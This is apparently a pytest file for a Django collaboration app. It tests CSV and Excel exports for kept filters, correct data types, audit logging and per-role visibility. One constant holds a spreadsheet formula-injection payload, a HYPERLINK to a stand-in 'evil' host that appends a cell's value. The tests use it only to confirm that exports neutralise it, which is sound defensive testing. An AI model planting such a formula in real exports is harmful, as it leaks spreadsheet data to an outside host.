"""Lists as files: what is on screen, filters kept, and nothing that the reader may not see."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from django.test import Client

from collab.models import AuditEvent, Collaboration, Seat
from tests import factories
from tests.collab.rights_rows import ANYBODY
from tests.collab.world import World, address_of

EVIL = '=HYPERLINK("http://evil?"&A1)'


def as_csv(client: Client, path: str, *, below: int = 1) -> list[list[str]]:
    """The rows below the head, or from it on."""
    answer = client.get(path)
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"), newline="")))[below:]


def as_excel(client: Client, path: str) -> list[tuple[Any, ...]]:
    """The rows below the head, as Excel has them."""
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(path).getvalue())).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}
    return list(sheet.iter_rows(min_row=2, values_only=True))


@pytest.fixture
def place(coordinator: Seat) -> Collaboration:
    """A collaboration with one record of each kind, one of them with a hostile name."""
    here = coordinator.collaboration
    raiz = factories.organization(collaboration=here, name="Raiz", sector="media", place="Pará")
    evil = factories.organization(collaboration=here, name=EVIL, sector="business")
    factories.meeting(raiz, evil, held_at=datetime(2025, 3, 1, 12, tzinfo=UTC), topics="Water", note="CANARYNOTE")
    factories.commitment(raiz, evil, text="Bring maps", made_on=date(2025, 3, 1), due_on=date(2025, 4, 1))
    factories.decision(proposed=(raiz,), approved=(raiz, evil), decided_on=date(2025, 5, 2), text="Go on")
    factories.person(organization=raiz, name="Ana Prado", email="canary@example.org")
    factories.resource(organization=raiz, text="Room", given_on=date(2025, 3, 3), amount=3, unit="day", unit_rate=50)
    return here


def test_filters_are_kept_and_a_page_is_not(place: Collaboration, coordinator: Seat, sign_in: Any):
    client, url = sign_in(coordinator), f"/c/{place.slug}/organizations/"
    assert as_csv(client, f"{url}?sector=media&page=7&as=csv") == [["Raiz", "Media", "Pará", "yes", "2025-03-01"]]
    for number in range(40):
        factories.organization(collaboration=place, name=f"O {number}")
    assert len(as_csv(client, f"{url}?as=csv")) == place.organizations.count() > 40
    html = client.get(f"{url}?sector=media").content.decode()
    assert 'href="?sector=media&amp;as=xlsx"' in html
    assert 'href="?sector=media&amp;as=csv"' in html


def test_a_hostile_name_stays_a_name(place: Collaboration, coordinator: Seat, sign_in: Any):
    client, url = sign_in(coordinator), f"/c/{place.slug}/organizations/?sector=business"
    assert as_csv(client, f"{url}&as=csv")[0][0] == f"'{EVIL}"
    assert as_excel(client, f"{url}&as=xlsx")[0][0] == EVIL


def test_days_and_amounts_are_real(place: Collaboration, coordinator: Seat, sign_in: Any):
    client = sign_in(coordinator)
    (promise,) = as_excel(client, f"/c/{place.slug}/commitments/?as=xlsx")
    assert (promise[0], promise[5]) == ("Bring maps", datetime(2025, 4, 1))
    assert isinstance(promise[7], int)
    (gift,) = as_excel(client, f"/c/{place.slug}/strategy/?as=xlsx")
    assert gift[:7] == ("Room", "Hours of work", "Raiz", datetime(2025, 3, 3), 3, "day", 50) or gift[4:7] == (
        3,
        "day",
        50,
    )
    assert gift[7] == 150


LISTS = ("organizations", "people", "meetings", "commitments", "commitments/register", "decisions", "strategy", "audit",
         "seats")  # fmt: skip


@pytest.mark.parametrize("name", LISTS)
def test_each_list_leaves_as_both_files_and_that_is_written_down(
    place: Collaboration, coordinator: Seat, sign_in: Any, name: str
):
    client, url = sign_in(coordinator), f"/c/{place.slug}/{name}/"
    assert "as=xlsx" in client.get(url).content.decode()
    rows = as_csv(client, f"{url}?as=csv")
    assert len(rows) == len(as_excel(client, f"{url}?as=xlsx")) - (name == "audit")  # the first file is an act itself
    assert "CANARYNOTE" not in str(rows)
    assert "canary@example.org" not in str(rows) or name == "audit"
    acts = AuditEvent.objects.filter(act=AuditEvent.Act.EXPORTED, user=coordinator.user)
    assert [one.subject.rpartition(" ")[2] for one in acts.order_by("pk")] == ["csv", "xlsx"]


def test_a_partner_takes_away_only_what_it_sees(place: Collaboration, sign_in: Any):
    stranger = factories.organization(collaboration=place, name="Outside")
    client = sign_in(factories.seat(collaboration=place, role="partner", organization=stranger))
    for name in ("meetings", "decisions", "commitments"):
        assert as_csv(client, f"/c/{place.slug}/{name}/?as=csv") == [], name
    names = [row[0] for row in as_csv(client, f"/c/{place.slug}/people/?as=csv")]
    assert "Ana Prado" not in names


def test_the_log_is_read_to_its_end(place: Collaboration, coordinator: Seat, sign_in: Any, monkeypatch: Any):
    monkeypatch.setattr("collab.audit.AT_ONCE", 3)
    rows = as_csv(sign_in(coordinator), f"/c/{place.slug}/audit/?as=csv&kind=collab.organization")
    assert len({tuple(row) for row in rows}) == len(rows) == place.organizations.count() > 3


@pytest.mark.parametrize("count", [1, 30])
@pytest.mark.parametrize(("name", "queries"), [("organizations", 6), ("meetings", 8), ("decisions", 8)])
def test_a_file_takes_the_same_queries(
    coordinator: Seat, sign_in: Any, name: str, queries: int, count: int, django_assert_max_num_queries: Any
):
    here = coordinator.collaboration
    for _n in range(count):
        raiz = factories.organization(collaboration=here)
        factories.meeting(raiz)
        factories.decision(proposed=(raiz,))
    client = sign_in(coordinator)
    with django_assert_max_num_queries(queries):
        as_csv(client, f"/c/{here.slug}/{name}/?as=csv")


EVERY_LIST = (
    "collab:organization_list", "collab:person_list", "collab:meeting_list", "collab:commitment_list",
    "collab:commitment_register", "collab:decision_list", "collab:strategy_list", "collab:audit_list",
    "partners:partner_list", "partners:statement_list", "partners:tie_list", "partners:survey_list",
    "partners:survey_detail", "partners:survey_results", "partners:review_list", "government:mandate_list",
    "metrics:pair_list", "metrics:pair_detail", "metrics:indicator_list", "metrics:score_csv",
    "metrics:network_csv", "metrics:portfolio", "metrics:partner_score_csv",
    "metrics:mandate_score_csv",
    "metrics:report_list", "collab:seat_list", "government:contact_csv",
)  # fmt: skip


@pytest.mark.parametrize("name", EVERY_LIST)
def test_who_sees_a_list_takes_it_away_and_nobody_else(world: World, name: str):
    url = address_of(name, world.ids["own"])
    for who in ANYBODY:
        client = world.clients[who]
        shown = client.get(url).status_code
        assert client.get(url, {"as": "xlsx"}).status_code == shown, who
        if shown == 200:
            head = as_csv(client, f"{url}?as=csv", below=0)[0]
            assert all(len(row) == len(head) for row in as_csv(client, f"{url}?as=csv")), who
            as_excel(client, f"{url}?as=xlsx")


def test_people_of_government_leave_only_with_who_sees_them(world: World):
    url = address_of("government:mandate_list", world.ids["own"])
    heads = {who: as_csv(world.clients[who], f"{url}?as=csv", below=0)[0] for who in ("facilitator", "funder")}
    assert {"Official", "Liaisons"} <= set(heads["facilitator"])
    assert not {"Official", "Liaisons"} & set(heads["funder"])


def test_money_is_the_second_list_of_its_page(place: Collaboration, coordinator: Seat, sign_in: Any):
    partner = factories.partner(factories.organization(collaboration=place, name="Union"))
    factories.investment(partner, amount="1800.50", currency="EUR", purpose="activities", on=date(2025, 5, 2))
    client, url = sign_in(coordinator), f"/c/{place.slug}/reviews/"
    assert "as=xlsx&amp;list=money" in client.get(url).content.decode()
    (row,) = as_excel(client, f"{url}?as=xlsx&list=money")
    assert (row[0], row[3], row[5], row[6]) == ("Union", datetime(2025, 5, 2), "EUR", 1800.5)
    assert as_csv(client, f"{url}?as=csv") == []


def test_contacts_with_government_leave_and_that_is_written_down(world: World):
    url = address_of("government:contact_csv", world.ids["own"])
    before = AuditEvent.objects.filter(act=AuditEvent.Act.EXPORTED).count()
    assert "government.csv" in world.clients["facilitator"].get(url).headers["Content-Disposition"]
    assert AuditEvent.objects.filter(act=AuditEvent.Act.EXPORTED).count() == before + 1
